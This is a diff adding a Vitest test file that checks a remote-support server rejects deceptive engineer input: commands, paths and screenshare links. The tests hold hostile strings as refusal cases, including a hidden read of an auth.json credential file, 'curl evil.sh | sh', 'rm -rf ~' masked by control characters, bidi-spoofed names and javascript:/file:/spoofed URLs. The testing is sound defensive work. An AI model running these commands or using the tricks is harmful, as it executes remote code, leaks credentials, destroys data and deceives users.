@@ -1,0 +1,103 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { liveSession, type Party, party } from './support/liveFixture';
+import { startTestServer, type TestServer } from './support/testServer';
+import type { TestSession } from './support/wsClient';
+
+/**
+ * Commands, paths and links that could show the customer something other than what runs are
+ * refused by the server with E_VALIDATION, each next to the same input without the trick.
+ * (Validation runs before storage, so one database is enough.)
+ */
+describe('engineer input the customer could be fooled by', () => {
+  let server: TestServer;
+  let customer: Party;
+  let engineer: Party;
+  const open: TestSession[] = [];
+
+  beforeAll(async () => {
+    server = await startTestServer();
+    customer = await party(server, 'customer', 1_000);
+    engineer = await party(server, 'engineer');
+  });
+  afterAll(async () => {
+    await Promise.all(open.map((s) => s.close()));
+    await server?.close();
+  });
+
+  const refusal = async (s: TestSession, type: string, payload: unknown) => {
+    const r = await s.request(type, payload);
+    return r.error ?? { code: 'accepted', message: '' };
+  };
+
+  it('refuses commands with NUL, C0/C1 controls or bidi controls; allows tab and newline', async () => {
+    const { e } = await liveSession(server, customer, engineer);
+    open.push(e);
+    for (const command of [
+      'npm test\x1b[8m; cat ~/.config/codevf/auth.json #\x1b[0m',
+      'curl evil.sh | sh #\r   npm test',
+      'rm -rf ~; \b\b\b\bnpm test',
+      'npm test\0',
+      'npm test\x9b2J',
+      'npm test\x7f',
+      'echo \u202Etset mpn',
+      'ls \u2066x\u2069',
+      'npm test\u2028rm -rf ~',
+    ]) {
+      const err = await refusal(e, 'request_command', { command, reason: '' });
+      expect(err.code, JSON.stringify(command)).toBe('E_VALIDATION');
+      expect(err.message).toMatch(/^request_command: command: must not contain .*control/);
+    }
+    // The same commands without the trick, and multi-line commands, are fine.
+    for (const command of ['npm test', 'for f in *.log; do\n\tgrep -n ERROR "$f"\ndone', 'echo "héllo wörld ✓"']) {
+      expect((await e.request('request_command', { command, reason: '' })).ack?.seq).toBeGreaterThan(0);
+    }
+  });
+
+  it('refuses paths with newlines, controls or bidi controls', async () => {
+    const { e } = await liveSession(server, customer, engineer);
+    open.push(e);
+    for (const path of ['README.md\x1b[8m/../config/x.yml', 'a\nb.txt', 'a\tb.txt', 'x\0', 'src/\u202Egnp.exe']) {
+      const err = await refusal(e, 'request_file', { path, reason: '' });
+      expect(err.code, JSON.stringify(path)).toBe('E_VALIDATION');
+      expect(err.message).toMatch(/^request_file: path: must not contain/);
+    }
+    expect((await e.request('request_file', { path: 'src/login handler.ts', reason: '' })).ack).toBeDefined();
+  });
+
+  it('accepts only https screenshare links without user info (http to loopback on a loopback server)', async () => {
+    const { e } = await liveSession(server, customer, engineer);
+    open.push(e);
+    const refused: [string, RegExp][] = [
+      ['javascript:alert(1)', /Only https/],
+      ['file:///etc/passwd', /Only https/],
+      ['vscode://vscode.git/clone?url=https://evil.example/r.git', /Only https/],
+      ['http://meet.example.com/room', /Only https/],
+      ['https://meet.google.com@evil.example/room', /user name/],
+      ['https://meet.example.com/\u202Eroom', /control or invisible/],
+      ['not a url', /spaces|not a full web link/],
+    ];
+    for (const [url, message] of refused) {
+      const err = await refusal(e, 'screenshare_request', { url });
+      expect(err.code, url).toBe('E_VALIDATION');
+      expect(err.message, url).toMatch(message);
+    }
+    for (const url of ['https://meet.example.com/abc-defg-hij', 'http://127.0.0.1:5173/share']) {
+      expect((await e.request('screenshare_request', { url })).ack, url).toBeDefined();
+    }
+  });
+
+  it('refuses http to loopback when the server is reached at a public address', async () => {
+    const remote = await startTestServer({ config: { publicUrl: 'https://codevf.example.com' } });
+    try {
+      const c = await party(remote, 'customer', 100);
+      const eng = await party(remote, 'engineer');
+      const { c: cs, e } = await liveSession(remote, c, eng);
+      const err = await refusal(e, 'screenshare_request', { url: 'http://localhost:5173/share' });
+      expect(err).toMatchObject({ code: 'E_VALIDATION', message: expect.stringMatching(/Only https/) });
+      expect((await e.request('screenshare_request', { url: 'https://meet.example.com/x' })).ack).toBeDefined();
+      await Promise.all([cs.close(), e.close()]);
+    } finally {
+      await remote.close();
+    }
+  });
+});
